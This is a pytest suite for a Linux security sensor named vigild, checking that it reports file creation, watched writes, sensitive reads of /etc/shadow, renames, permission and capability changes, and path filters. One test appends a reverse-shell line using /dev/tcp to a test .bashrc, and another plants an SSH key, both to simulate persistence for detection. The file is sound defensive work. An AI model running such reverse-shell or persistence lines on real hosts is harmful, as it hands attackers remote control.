"""File domain: creation, writes in watched paths, sensitive reads, renames,
deletions, mode/owner changes, links, truncation, timestamps, and the
in-kernel path filter, against a real vigild.

Most behaviours are performed by the test process itself (events are matched
by our pid and by path); "nothing is reported" is checked against a later
event of the same thread (a marker file creation, or the helper's exit),
which the sensor must emit after any event of the behaviour under test.
"""
import ctypes
import fcntl
import itertools
import json
import os
import shutil
import socket
import subprocess
import struct
import tempfile

import pytest

from conftest import action, free_port, get, run_helper

ME = os.getpid()
_marks = itertools.count()
T2001_NS = 978307200 * 10**9  # 2001-01-01T00:00:00Z
# generous: other activity on a busy host can delay the daemon's output
T = 30


def mine(name, path=None, pid=None, **fields):
    """Predicate: event `name` from pid (default: this process) on path,
    with the given dotted fields (a__b=v means a.b == v)."""
    want_pid = ME if pid is None else pid

    def pred(ev):
        if ev["event"]["action"] != name or ev["process"]["pid"] != want_pid:
            return False
        if path is not None and get(ev, "file.path") != path:
            return False
        return all(get(ev, k.replace("__", ".")) == v for k, v in fields.items())
    return pred


def sync(d, where):
    """Creates a marker file in `where` and waits for its file_create: every
    earlier event of this thread has been written by then."""
    m = os.path.join(where, "marker-%d" % next(_marks))
    os.close(os.open(m, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
    d.wait_for(mine("file_create", m), timeout=T, what="marker " + m)
    os.unlink(m)


def file_events(d, pid, path_prefix=None):
    """file_* events of pid (optionally under path_prefix) seen so far."""
    def pred(ev):
        if not ev["event"]["action"].startswith("file_") or ev["process"]["pid"] != pid:
            return False
        if path_prefix is None:
            return True
        paths = [get(ev, "file.path"), get(ev, "file.target_path"), get(ev, "vigil.file.old_path")]
        return any(p and p.startswith(path_prefix) for p in paths)
    return d.find_all(pred)


@pytest.fixture
def tmp():
    d = os.path.realpath(tempfile.mkdtemp(prefix="vigil-file-"))
    yield d
    shutil.rmtree(d, ignore_errors=True)


def test_create_and_reopen(vigild, tmp):
    p = os.path.join(tmp, "new")
    old = os.umask(0o022)
    try:
        fd = os.open(p, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o640)
    finally:
        os.umask(old)
    os.close(fd)
    ev = vigild.wait_for(mine("file_create", p), timeout=T, what="file_create")
    assert get(ev, "file.mode") == "0640"
    assert get(ev, "file.inode") == os.stat(p).st_ino
    assert get(ev, "event.outcome") == "success"
    # opening the existing file with O_CREAT creates nothing
    os.close(os.open(p, os.O_CREAT | os.O_WRONLY))
    os.close(os.open(p, os.O_CREAT | os.O_RDONLY))
    sync(vigild, tmp)
    assert len(vigild.find_all(mine("file_create", p))) == 1


def test_write_open_watched_and_unwatched(vigild, tmp):
    watched = "/etc/vigil-test-%d" % ME
    try:
        os.close(os.open(watched, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        vigild.wait_for(mine("file_create", watched), timeout=T, what="create in /etc")
        fd = os.open(watched, os.O_WRONLY | os.O_TRUNC)
        os.write(fd, b"x\n")
        os.close(fd)
        ev = vigild.wait_for(mine("file_open_write", watched), timeout=T, what="file_open_write")
        assert get(ev, "vigil.file.truncated") is True
        assert get(ev, "vigil.file.open_flags") & os.O_TRUNC
        # a read-only open of the watched file is not a write
        with open(watched, "rb") as f:
            f.read()
        # an append open (no O_TRUNC) is a write that does not truncate
        os.close(os.open(watched, os.O_WRONLY | os.O_APPEND))
        ev = vigild.wait_for(mine("file_open_write", watched, vigil__file__truncated=False),
                             timeout=T, what="append open")
        assert get(ev, "file.inode") == os.stat(watched).st_ino
    finally:
        os.unlink(watched)
    vigild.wait_for(mine("file_delete", watched), timeout=T, what="delete in /etc")
    # the creation gave a create event only, never a write event too
    assert len(vigild.find_all(mine("file_open_write", watched))) == 2

    # writes outside watched paths are not reported
    outside = os.path.join(tmp, "outside")
    with open(outside, "wb"):
        pass
    fd = os.open(outside, os.O_WRONLY | os.O_TRUNC)
    os.write(fd, b"y")
    os.close(fd)
    sync(vigild, tmp)
    assert not vigild.find_all(mine("file_open_write", outside))


def test_write_to_watched_names_anywhere(vigild, tmp):
    """Appending a key to an existing authorized_keys or a line to a
    .bashrc in a home directory no watched prefix covers is reported (the
    commonest persistence; test_rules checks the alerts); another file
    there is not; a name taken off the list at run time is not."""
    home = os.path.join(tmp, "home", "alice")
    os.makedirs(os.path.join(home, ".ssh"))
    keys, rc, notes = (os.path.join(home, ".ssh", "authorized_keys"), os.path.join(home, ".bashrc"),
                       os.path.join(home, "notes.txt"))
    for p in (keys, rc, notes):
        with open(p, "w") as f:
            f.write("# existing\n")
    sync(vigild, tmp)
    for p, line in ((keys, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE vigil-test\n"),
                    (rc, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &\n"), (notes, "x\n")):
        with open(p, "a") as f:
            f.write(line)
    for p in (keys, rc):
        ev = vigild.wait_for(mine("file_open_write", p), timeout=T, what="file_open_write of " + p)
        assert get(ev, "vigil.file.truncated") is False
        assert get(ev, "file.inode") == os.stat(p).st_ino
    sync(vigild, tmp)
    assert not vigild.find_all(mine("file_open_write", notes))

    assert "watch-name .bashrc" in vigild.vigil("filter", "list").stdout
    vigild.vigil("filter", "del", "watch-name", ".bashrc")
    try:
        with open(rc, "a") as f:
            f.write("again\n")
        sync(vigild, tmp)
        assert len(vigild.find_all(mine("file_open_write", rc))) == 1
    finally:
        vigild.vigil("filter", "add", "watch-name", ".bashrc")
    r = vigild.vigil("filter", "add", "watch-name", "a/b", check=False)
    assert r.returncode != 0 and "no '/'" in r.stdout + r.stderr


def _openat2(path, flags, mode=0o600):
    """openat2(AT_FDCWD, path, {flags, mode}): glibc has no wrapper."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    if not flags & os.O_CREAT:
        mode = 0  # openat2 refuses a mode without O_CREAT
    how = ctypes.create_string_buffer(struct.pack("QQQ", flags, mode, 0), 24)
    fd = libc.syscall(ctypes.c_long(437), ctypes.c_long(-100), ctypes.c_char_p(path.encode()),
                      how, ctypes.c_size_t(24))
    if fd < 0:
        raise OSError(ctypes.get_errno(), "openat2 " + path)
    return fd


def test_openat2(vigild, tmp):
    """openat2 passes its flags in a struct: O_CREAT and O_TRUNC still count."""
    p = os.path.join(tmp, "via-openat2")
    os.close(_openat2(p, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    vigild.wait_for(mine("file_create", p), timeout=T, what="openat2 create")
    watched = "/etc/vigil-test-openat2-%d" % ME
    try:
        with open(watched, "w"):
            pass
        os.close(_openat2(watched, os.O_WRONLY | os.O_TRUNC))
        ev = vigild.wait_for(mine("file_open_write", watched), timeout=T, what="openat2 write")
        assert get(ev, "vigil.file.truncated") is True
    finally:
        os.unlink(watched)


def test_rename_delete_and_failures(vigild, tmp):
    a, b = os.path.join(tmp, "a"), os.path.join(tmp, "b")
    with open(a, "w"):
        pass
    os.rename(a, b)
    ev = vigild.wait_for(mine("file_rename", b), timeout=T, what="file_rename")
    assert get(ev, "vigil.file.old_path") == a
    os.unlink(b)
    ev = vigild.wait_for(mine("file_delete", b), timeout=T, what="file_delete")
    assert get(ev, "vigil.file.directory") is False
    assert get(ev, "event.outcome") == "success"
    sub = os.path.join(tmp, "sub")
    os.mkdir(sub)
    os.rmdir(sub)
    ev = vigild.wait_for(mine("file_delete", sub), timeout=T, what="rmdir")
    assert get(ev, "vigil.file.directory") is True
    # failed calls are reported with their error
    missing = os.path.join(tmp, "missing")
    with pytest.raises(FileNotFoundError):
        os.unlink(missing)
    ev = vigild.wait_for(mine("file_delete", missing), timeout=T, what="failed unlink")
    assert get(ev, "event.outcome") == "failure"
    assert get(ev, "error.code") == "ENOENT"
    with pytest.raises(FileNotFoundError):
        os.rename(missing, b)
    ev = vigild.wait_for(mine("file_rename", b, vigil__file__old_path=missing), timeout=T, what="failed rename")
    assert get(ev, "event.outcome") == "failure"


def test_chmod_chown(vigild, tmp):
    p = os.path.join(tmp, "tool")
    with open(p, "w"):
        pass
    os.chmod(p, 0o644)
    os.chmod(p, 0o755)  # chmod +x by path: the old mode is unknown
    ev = vigild.wait_for(mine("file_chmod", p, file__mode="0755"), timeout=T, what="chmod +x")
    assert get(ev, "vigil.file.exec_added") is True
    assert get(ev, "vigil.file.old_mode") is None
    os.chmod(p, 0o4755)  # chmod u+s
    ev = vigild.wait_for(mine("file_chmod", p, file__mode="4755"), timeout=T, what="chmod u+s")
    assert get(ev, "vigil.file.setuid_added") is True

    # by fd: the mode before the change is known
    fd = os.open(p, os.O_RDONLY)
    try:
        os.fchmod(fd, 0o600)
        os.fchmod(fd, 0o700)
        ev = vigild.wait_for(mine("file_chmod", p, file__mode="0700"), timeout=T, what="fchmod +x")
        assert get(ev, "vigil.file.old_mode") == "0600"
        assert get(ev, "vigil.file.exec_added") is True
        assert get(ev, "file.inode") == os.fstat(fd).st_ino
        os.fchmod(fd, 0o4700)
        ev = vigild.wait_for(mine("file_chmod", p, file__mode="4700"), timeout=T, what="fchmod u+s")
        assert get(ev, "vigil.file.old_mode") == "0700"
        assert get(ev, "vigil.file.exec_added") is False
        assert get(ev, "vigil.file.setuid_added") is True

        os.chown(p, 65534, 65533)
        ev = vigild.wait_for(mine("file_chown", p, file__uid=65534), timeout=T, what="chown")
        assert get(ev, "file.gid") == 65533
        os.fchown(fd, 0, 0)
        vigild.wait_for(mine("file_chown", p, file__uid=0, file__gid=0), timeout=T, what="fchown")
    finally:
        os.close(fd)


def test_link_symlink_truncate_utimes(vigild, tmp):
    b, c, d = (os.path.join(tmp, n) for n in "bcd")
    with open(b, "w") as f:
        f.write("content\n")
    os.link(b, c)
    ev = vigild.wait_for(mine("file_link", c), timeout=T, what="file_link")
    assert get(ev, "file.target_path") == b
    os.symlink("../elsewhere/target", d)
    ev = vigild.wait_for(mine("file_symlink", d), timeout=T, what="file_symlink")
    assert get(ev, "file.target_path") == "../elsewhere/target"  # verbatim

    os.truncate(c, 0)
    vigild.wait_for(mine("file_truncate", c), timeout=T, what="truncate")
    with open(b, "r+b") as f:
        os.ftruncate(f.fileno(), 1)
        ev = vigild.wait_for(mine("file_truncate", b), timeout=T, what="ftruncate")
        assert get(ev, "file.inode") == os.fstat(f.fileno()).st_ino

    os.utime(b, ns=(T2001_NS, T2001_NS + 5))
    ev = vigild.wait_for(mine("file_utimes", b, vigil__file__mtime_ns=T2001_NS + 5), timeout=T, what="utimensat")
    assert get(ev, "vigil.file.atime_ns") == T2001_NS
    os.utime(b)  # NULL times: now
    vigild.wait_for(mine("file_utimes", b, vigil__file__mtime_ns=-1, vigil__file__atime_ns=-1),
                    timeout=T, what="utimensat NULL times")
    fd = os.open(b, os.O_RDONLY)
    try:
        os.utime(fd, ns=(T2001_NS, T2001_NS))  # futimens: utimensat(fd, NULL, ...)
    finally:
        os.close(fd)
    vigild.wait_for(mine("file_utimes", b, vigil__file__mtime_ns=T2001_NS), timeout=T, what="futimens")


def test_legacy_utimes_syscalls(vigild, tmp):
    """utimes, utime and futimesat (raw syscalls: glibc routes its wrappers
    through utimensat) carry microseconds / seconds / a dirfd."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    p = os.path.join(tmp, "old-times")
    with open(p, "w"):
        pass
    sec = 978307200

    def sysc(nr, *args):
        r = libc.syscall(ctypes.c_long(nr), *args)
        assert r == 0, os.strerror(ctypes.get_errno())

    tv = ctypes.create_string_buffer(struct.pack("qqqq", sec, 1, sec + 1, 2), 32)
    sysc(235, ctypes.c_char_p(p.encode()), tv)  # utimes: timeval[2]
    ev = vigild.wait_for(mine("file_utimes", p, vigil__file__mtime_ns=(sec + 1) * 10**9 + 2000),
                         timeout=T, what="utimes")
    assert get(ev, "vigil.file.atime_ns") == sec * 10**9 + 1000
    ub = ctypes.create_string_buffer(struct.pack("qq", sec + 5, sec + 6), 16)
    sysc(132, ctypes.c_char_p(p.encode()), ub)  # utime: utimbuf
    ev = vigild.wait_for(mine("file_utimes", p, vigil__file__mtime_ns=(sec + 6) * 10**9),
                         timeout=T, what="utime")
    assert get(ev, "vigil.file.atime_ns") == (sec + 5) * 10**9
    dfd = os.open(tmp, os.O_RDONLY | os.O_DIRECTORY)
    try:
        sysc(261, ctypes.c_long(dfd), ctypes.c_char_p(b"old-times"), None)  # futimesat, NULL: now
    finally:
        os.close(dfd)
    vigild.wait_for(mine("file_utimes", p, vigil__file__mtime_ns=-1), timeout=T, what="futimesat")


def _check_file_ops(d, out):
    """Every step of build/helpers/file_ops has its event with the absolute
    path the helper expects (dirfd steps resolve against the dirfd)."""
    pid = out["pid"]
    kinds = {"create": "file_create", "rename": "file_rename", "chmod": "file_chmod",
             "chown": "file_chown", "link": "file_link", "symlink": "file_symlink",
             "truncate": "file_truncate", "utimes": "file_utimes", "unlink": "file_delete"}
    for st in out["steps"]:
        if st["op"] not in kinds:
            continue
        assert st["rc"] >= 0, st
        path = st.get("new_path", st["path"])
        ev = d.wait_for(mine(kinds[st["op"]], path, pid=pid), timeout=T, what=f"{st['op']} via {st['via']} {path}")
        assert get(ev, "event.outcome") == "success"
        if st["op"] == "rename":
            assert get(ev, "vigil.file.old_path") == st["path"]
        elif st["op"] == "link":
            assert get(ev, "file.target_path") == st["path"]
        elif st["op"] == "symlink":
            assert get(ev, "file.target_path") == st["target"]
        elif st["op"] == "chmod":
            assert get(ev, "file.mode") == "%04o" % st["mode"]
        elif st["op"] == "chown":
            assert (get(ev, "file.uid"), get(ev, "file.gid")) == (st["uid"], st["gid"])
        elif st["op"] == "utimes":
            assert get(ev, "vigil.file.mtime_ns") == st["mtime"] * 10**9


def test_dirfd_and_cwd_resolution(vigild, tmp):
    out, _ = run_helper("file_ops", tmp)
    _check_file_ops(vigild, out)

    # more *at() calls from this process, with the cwd elsewhere
    sub = os.path.join(tmp, "sub")
    os.mkdir(sub)
    dfd = os.open(sub, os.O_RDONLY | os.O_DIRECTORY)
    cwd = os.getcwd()
    os.chdir("/")
    try:
        with open(os.path.join(sub, "x"), "w"):
            pass
        os.symlink("x", "y", dir_fd=dfd)
        os.link("x", "z", src_dir_fd=dfd, dst_dir_fd=dfd)
        os.chown("x", 1, 2, dir_fd=dfd)
        os.chmod("x", 0o700, dir_fd=dfd)
        os.rename("z", "w", src_dir_fd=dfd, dst_dir_fd=dfd)
        os.utime("x", ns=(T2001_NS, T2001_NS), dir_fd=dfd)
        os.unlink("w", dir_fd=dfd)
        os.mkdir("dd", dir_fd=dfd)
        os.rmdir("dd", dir_fd=dfd)
    finally:
        os.chdir(cwd)
        os.close(dfd)
    x = os.path.join(sub, "x")
    ev = vigild.wait_for(mine("file_symlink", os.path.join(sub, "y")), timeout=T, what="symlinkat")
    assert get(ev, "file.target_path") == "x"
    ev = vigild.wait_for(mine("file_link", os.path.join(sub, "z")), timeout=T, what="linkat")
    assert get(ev, "file.target_path") == x
    vigild.wait_for(mine("file_chown", x, file__uid=1, file__gid=2), timeout=T, what="fchownat")
    vigild.wait_for(mine("file_chmod", x, file__mode="0700"), timeout=T, what="fchmodat")
    ev = vigild.wait_for(mine("file_rename", os.path.join(sub, "w")), timeout=T, what="renameat")
    assert get(ev, "vigil.file.old_path") == os.path.join(sub, "z")
    vigild.wait_for(mine("file_utimes", x, vigil__file__mtime_ns=T2001_NS), timeout=T, what="utimensat dirfd")
    vigild.wait_for(mine("file_delete", os.path.join(sub, "w")), timeout=T, what="unlinkat")
    ev = vigild.wait_for(mine("file_delete", os.path.join(sub, "dd")), timeout=T, what="unlinkat AT_REMOVEDIR")
    assert get(ev, "vigil.file.directory") is True


def test_created_path_walk(vigild, tmp):
    """A create's path comes from the kernel's dentry chain, not from what
    the process passed: names of every length the copy handles in words
    (1, 7, 8, 9, 16, 17 and the 255 maximum), a mount crossed on the way
    up, a symlinked directory resolved, 30 levels deep; a relative unlink
    is joined with the cwd that the same walk reads; a path deeper than the
    walk's 32 components says it was cut."""
    deep = tmp
    for n in (1, 7, 8, 9, 16, 17, 255):
        deep = os.path.join(deep, chr(ord("a") + n % 26) * n)
    os.makedirs(deep)
    p = os.path.join(deep, "f")
    os.close(os.open(p, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
    vigild.wait_for(mine("file_create", p), timeout=T, what="create under long names")

    link = os.path.join(tmp, "link")
    os.symlink(deep, link)
    os.close(os.open(os.path.join(link, "g"), os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
    vigild.wait_for(mine("file_create", os.path.join(deep, "g")), timeout=T,
                    what="create through a symlinked directory, resolved")

    cwd = os.getcwd()
    os.chdir(deep)
    try:
        os.unlink("g")
    finally:
        os.chdir(cwd)
    vigild.wait_for(mine("file_delete", os.path.join(deep, "g")), timeout=T, what="relative unlink")

    # 32 components are kept (VG_MAX_PATH_DEPTH): a deeper path keeps its
    # last 32 after "...", never posing as a shorter absolute path
    for depth, what in ((32, "create 32 components deep"), (40, "create 40 deep, cut")):
        comps = tmp.strip("/").split("/")
        comps += ["d%d" % i for i in range(depth - len(comps) - 1)] + ["h"]
        q = "/" + "/".join(comps)
        os.makedirs(os.path.dirname(q), exist_ok=True)
        os.close(os.open(q, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        want = q if depth <= 32 else ".../" + "/".join(comps[-32:])
        vigild.wait_for(mine("file_create", want), timeout=T, what=what)
        os.unlink(q)

    mnt = os.path.join(tmp, "mnt")
    os.mkdir(mnt)
    subprocess.run(["mount", "-t", "tmpfs", "vigil-walk", mnt], check=True)
    try:
        os.mkdir(os.path.join(mnt, "in"))
        r = os.path.join(mnt, "in", "r")
        os.close(os.open(r, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        vigild.wait_for(mine("file_create", r), timeout=T, what="create across a mount")
    finally:
        subprocess.run(["umount", "-l", mnt], check=False)


def test_sensitive_read(vigild, tmp):
    out, _ = run_helper("sensitive_read", "/etc/shadow")
    assert out["bytes"] >= 0
    ev = vigild.wait_for(mine("file_read_sensitive", "/etc/shadow", pid=out["pid"]),
                         timeout=T, what="file_read_sensitive")
    assert get(ev, "file.inode") == os.stat("/etc/shadow").st_ino
    assert get(ev, "process.name") == "sensitive_read"

    # an ordinary file: nothing, up to the helper's exit
    plain = os.path.join(tmp, "plain")
    with open(plain, "w") as f:
        f.write("nothing secret\n")
    for path in (plain, "/etc/hostname" if os.path.exists("/etc/hostname") else "/etc/passwd"):
        out, _ = run_helper("sensitive_read", path)
        vigild.wait_for(lambda ev: action("exit")(ev) and ev["process"]["pid"] == out["pid"],
                        timeout=T, what="helper exit")
        assert file_events(vigild, out["pid"]) == []


def test_sensitive_runtime(vigild, tmp):
    """A file made sensitive while vigild runs is reported from then on (the
    kernel checks a bit array before its inode map: the bit must be set)."""
    secret = os.path.join(tmp, "late-secret")
    with open(secret, "w") as f:
        f.write("token\n")
    out, _ = run_helper("sensitive_read", secret)
    vigild.wait_for(lambda ev: action("exit")(ev) and ev["process"]["pid"] == out["pid"],
                    timeout=T, what="helper exit")
    assert file_events(vigild, out["pid"]) == []
    vigild.vigil("filter", "add", "sensitive", secret)
    try:
        out, _ = run_helper("sensitive_read", secret)
        ev = vigild.wait_for(mine("file_read_sensitive", secret, pid=out["pid"]),
                             timeout=T, what="file_read_sensitive after filter add")
        assert get(ev, "file.inode") == os.stat(secret).st_ino
    finally:
        vigild.vigil("filter", "del", "sensitive", secret)


IGNORED = "/tmp/vigil-ignored/"
# The second daemon needs only the file hooks and exit (the "nothing more
# from this helper" marker): the others would only lengthen its start.
OTHER_HOOKS = ("exec", "exec_fail", "fork", "setsid", "comm", "memfd", "connect", "accept",
               "bind", "listen", "dns", "socket", "creds", "ptrace", "module", "mount", "bpf",
               "signal")


def test_ignore_path_config(start_vigild):
    os.makedirs(IGNORED, exist_ok=True)
    ign = tempfile.mkdtemp(prefix="ops-", dir=IGNORED)
    ok = os.path.realpath(tempfile.mkdtemp(prefix="vigil-file-ok-"))
    try:
        conf = "metrics_interval = 2\nmodule_fallback = off\nignore_path = %s\n" % IGNORED
        conf += "".join("hook.%s = off\n" % h for h in OTHER_HOOKS)
        d = start_vigild(conf)
        out_ign, _ = run_helper("file_ops", ign)
        out_ok, _ = run_helper("file_ops", ok)
        # still recorded elsewhere ...
        _check_file_ops(d, out_ok)
        # ... and nothing under the prefix, up to the helper's exit
        d.wait_for(lambda ev: action("exit")(ev) and ev["process"]["pid"] == out_ign["pid"],
                   timeout=T, what="helper exit")
        assert file_events(d, out_ign["pid"]) == []
        st = d.vigil("status", "--json")
        hooks = json.loads(st.stdout)["hooks"]
        # create (open), rename, chmod, chown, link, symlink, truncate, utimes, 3 unlinks
        assert hooks["open"]["filtered"] >= 1
        assert hooks["rename"]["filtered"] >= 1
        assert hooks["unlink"]["filtered"] >= 3
    finally:
        shutil.rmtree(ign, ignore_errors=True)
        shutil.rmtree(ok, ignore_errors=True)


def test_ignore_path_runtime(vigild, tmp):
    def filtered():
        hooks = json.loads(vigild.vigil("status", "--json").stdout)["hooks"]
        return {h: hooks[h]["filtered"] for h in ("open", "rename", "unlink")}

    prefix = os.path.join(tmp, "quiet") + "/"
    os.mkdir(prefix)
    before = filtered()
    vigild.vigil("filter", "add", "path", prefix)
    try:
        assert prefix in vigild.vigil("filter", "list").stdout
        out, _ = run_helper("file_ops", prefix)
        vigild.wait_for(lambda ev: action("exit")(ev) and ev["process"]["pid"] == out["pid"],
                        timeout=T, what="helper exit")
        assert file_events(vigild, out["pid"]) == []
        after = filtered()
        assert after["open"] > before["open"]
        assert after["rename"] > before["rename"]
        assert after["unlink"] >= before["unlink"] + 3
        # a rename out of the ignored prefix is still worth seeing
        src, dst = os.path.join(prefix, "leaving"), os.path.join(tmp, "left")
        with open(src, "w"):
            pass
        os.rename(src, dst)
        ev = vigild.wait_for(mine("file_rename", dst), timeout=T, what="rename out of an ignored prefix")
        assert get(ev, "vigil.file.old_path") == src
        os.unlink(dst)
        # outside the prefix: still recorded
        other = os.path.join(tmp, "loud")
        os.mkdir(other)
        out2, _ = run_helper("file_ops", other)
        _check_file_ops(vigild, out2)
    finally:
        vigild.vigil("filter", "del", "path", prefix)
    # removed: recorded again
    out3, _ = run_helper("file_ops", prefix)
    _check_file_ops(vigild, out3)


DISPATCH_LINE = "dispatched from the raw sys_exit program"
RELOAD_LINE = "loading the sensor again with the syscall exit tracepoints"


@pytest.mark.parametrize("mode", ["default", "tracepoints", "dispatcher_fails"])
def test_exit_dispatch_modes(start_vigild, tmp, mode):
    # On a kernel without module syscall tracepoints the raw sys_exit
    # program runs for every syscall anyway, so every exit handler is
    # tail-called from it and their tracepoint programs are not loaded;
    # with module_fallback = off they use their tracepoints, and so they
    # must when the dispatcher does not attach (the sensor is loaded again).
    # All must record the same events, from each BPF object (file,
    # process, net).
    conf = "metrics_interval = 2\n" + ("module_fallback = off\n" if mode == "tracepoints" else "")
    env = {"VIGIL_TEST_NO_DISPATCHER": "1"} if mode == "dispatcher_fails" else None
    d = start_vigild(conf, env=env)
    lacks = "kernel lacks tracepoint syscalls/sys_enter_init_module" in d.stderr_text()
    dispatching = lacks and os.uname().machine == "x86_64"
    if mode == "default" and dispatching:
        assert DISPATCH_LINE in d.stderr_text()
    else:
        assert DISPATCH_LINE not in d.stderr_text()
    if mode == "dispatcher_fails" and dispatching:
        assert RELOAD_LINE in d.stderr_text()
        assert d.stderr_text().count("vigild: ready") == 1
    a, b = os.path.join(tmp, "a"), os.path.join(tmp, "b")
    with open(a, "w"):
        pass
    d.wait_for(mine("file_create", a), timeout=T, what="file_create")
    dfd = os.open(tmp, os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.rename("a", "b", src_dir_fd=dfd, dst_dir_fd=dfd)  # renameat
        ev = d.wait_for(mine("file_rename", b), timeout=T, what="renameat")
        assert get(ev, "vigil.file.old_path") == a
        os.unlink("b", dir_fd=dfd)  # unlinkat
        d.wait_for(mine("file_delete", b), timeout=T, what="unlinkat")
    finally:
        os.close(dfd)
    sub = os.path.join(tmp, "sub")
    os.mkdir(sub)
    os.rmdir(sub)
    d.wait_for(mine("file_delete", sub), timeout=T, what="rmdir")
    with pytest.raises(FileNotFoundError):
        os.unlink(os.path.join(tmp, "missing"))
    ev = d.wait_for(mine("file_delete", os.path.join(tmp, "missing")), timeout=T, what="failed unlink")
    assert get(ev, "error.code") == "ENOENT"
    c = os.path.join(tmp, "c")
    with open(c, "w"):
        pass
    os.chmod(c, 0o755)
    d.wait_for(mine("file_chmod", c, file__mode="0755"), timeout=T, what="chmod")
    os.setxattr(c, "security.vigiltest", b"x")
    d.wait_for(mine("file_xattr_set", c, vigil__xattr__name="security.vigiltest"), timeout=T, what="setxattr")
    # the ioctl handler (chattr's FS_IOC_SETFLAGS), with the flags unchanged
    fd = os.open(c, os.O_RDONLY)
    try:
        flags = struct.unpack("i", fcntl.ioctl(fd, 0x80086601, b"\0" * 4))[0]  # FS_IOC_GETFLAGS
        fcntl.ioctl(fd, 0x40086602, struct.pack("i", flags))  # FS_IOC_SETFLAGS
    except OSError:
        pass  # a file system without inode flags: the record is made all the same
    finally:
        os.close(fd)
    d.wait_for(mine("file_flags", c), timeout=T, what="FS_IOC_SETFLAGS")
    # a failed exec (process object) and a refused connect (net object)
    with pytest.raises(FileNotFoundError):
        subprocess.run([os.path.join(tmp, "no-such-program")])
    d.wait_for(lambda ev: get(ev, "event.action") == "exec_failed"
               and get(ev, "file.path", "").endswith("no-such-program"), timeout=T, what="exec_fail")
    port = free_port()
    s = socket.socket()
    try:
        assert s.connect_ex(("127.0.0.1", port)) != 0
    finally:
        s.close()
    ev = d.wait_for(lambda ev: get(ev, "event.action") == "connect" and ev["process"]["pid"] == os.getpid()
                    and get(ev, "destination.port") == port, timeout=T, what="refused connect")
    assert get(ev, "error.code") == "ECONNREFUSED"


def test_hook_off_under_dispatch(start_vigild, tmp):
    # The file object's exit handlers share one raw exit program: turning
    # one hook off empties only its syscalls' dispatch slots. Renames (3
    # syscalls) are not recorded; deletions, run by the same program, are.
    d = start_vigild("metrics_interval = 2\nhook.rename = off\n")
    text = d.stderr_text()
    if DISPATCH_LINE in text:
        n = int(text.split(DISPATCH_LINE)[0].rsplit("vigild: ", 1)[1].split()[0])
        d2 = start_vigild("metrics_interval = 2\n")
        m = int(d2.stderr_text().split(DISPATCH_LINE)[0].rsplit("vigild: ", 1)[1].split()[0])
        assert n == m - 3, (n, m)
    a, b = os.path.join(tmp, "a"), os.path.join(tmp, "b")
    with open(a, "w"):
        pass
    os.rename(a, b)
    os.unlink(b)
    d.wait_for(mine("file_delete", b), timeout=T, what="unlink")
    sync(d, tmp)
    assert not [ev for ev in file_events(d, ME, tmp) if ev["event"]["action"] == "file_rename"]
    hooks = json.loads(d.vigil("status", "--json").stdout)["hooks"]
    assert not hooks["rename"]["active"] and hooks["unlink"]["active"], (hooks["rename"], hooks["unlink"])


def _fcaps_v2(permitted, effective=True):
    """A security.capability value (struct vfs_cap_data, revision 2)."""
    magic = 0x02000000 | (1 if effective else 0)
    return struct.pack("<5I", magic, permitted & 0xffffffff, 0, permitted >> 32, 0)


def test_xattrs_and_inode_flags(vigild, tmp):
    """File capabilities, ACLs and security labels (the setxattr and
    removexattr families) and chattr's immutable/append-only flags (ioctl).
    setcap, setfacl and chattr are the real tools; the raw calls cover the
    ones the tools do not make (by fd, setxattrat)."""
    binary = os.path.join(tmp, "capbin")
    shutil.copy("/bin/true", binary)
    setcap = shutil.which("setcap") or "/sbin/setcap"
    if os.path.exists(setcap):
        r = subprocess.run([setcap, "cap_setuid,cap_net_raw+ep", binary], capture_output=True)
        assert r.returncode == 0, r.stderr
        ev = vigild.wait_for(lambda e: get(e, "event.action") == "file_xattr_set" and get(e, "file.path") == binary
                             and get(e, "process.name") == "setcap", timeout=T, what="setcap")
        assert get(ev, "vigil.xattr.name") == "security.capability"
        assert sorted(get(ev, "vigil.xattr.capabilities")) == ["cap_net_raw", "cap_setuid"]
        assert get(ev, "vigil.xattr.cap_effective") is True
        assert get(ev, "vigil.xattr.cap_text") == "cap_setuid,cap_net_raw=ep"
        subprocess.run([setcap, "-r", binary], check=True)
        vigild.wait_for(lambda e: get(e, "event.action") == "file_xattr_remove" and get(e, "file.path") == binary
                        and get(e, "vigil.xattr.name") == "security.capability", timeout=T, what="setcap -r")

    # by fd (fsetxattr), as a dropper would with libcap or Python
    fd = os.open(binary, os.O_RDONLY)
    try:
        os.setxattr(fd, "security.capability", _fcaps_v2(1 << 21))  # cap_sys_admin
    finally:
        os.close(fd)
    ev = vigild.wait_for(mine("file_xattr_set", binary, vigil__xattr__name="security.capability"),
                         timeout=T, what="fsetxattr security.capability")
    assert get(ev, "vigil.xattr.capabilities") == ["cap_sys_admin"]
    assert get(ev, "file.inode") == os.stat(binary).st_ino
    os.removexattr(binary, "security.capability")
    vigild.wait_for(mine("file_xattr_remove", binary), timeout=T, what="removexattr")

    # an ACL (the bytes setfacl -m u:1000:rwx writes)
    acl_file = os.path.join(tmp, "acl")
    open(acl_file, "w").close()
    acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", t, p, i) for t, p, i in
                                          [(1, 6, 0xffffffff), (2, 7, 1000), (4, 4, 0xffffffff),
                                           (0x10, 7, 0xffffffff), (0x20, 4, 0xffffffff)])
    os.setxattr(acl_file, "system.posix_acl_access", acl)
    ev = vigild.wait_for(mine("file_xattr_set", acl_file), timeout=T, what="ACL")
    assert get(ev, "vigil.xattr.acl") == "u::rw-,u:1000:rwx,g::r--,m::rwx,o::r--"
    if shutil.which("setfacl"):
        subprocess.run(["setfacl", "-m", "u:1001:r", acl_file], check=True)
        vigild.wait_for(lambda e: get(e, "event.action") == "file_xattr_set" and get(e, "file.path") == acl_file
                        and "u:1001:r--" in get(e, "vigil.xattr.acl", ""), timeout=T, what="setfacl")

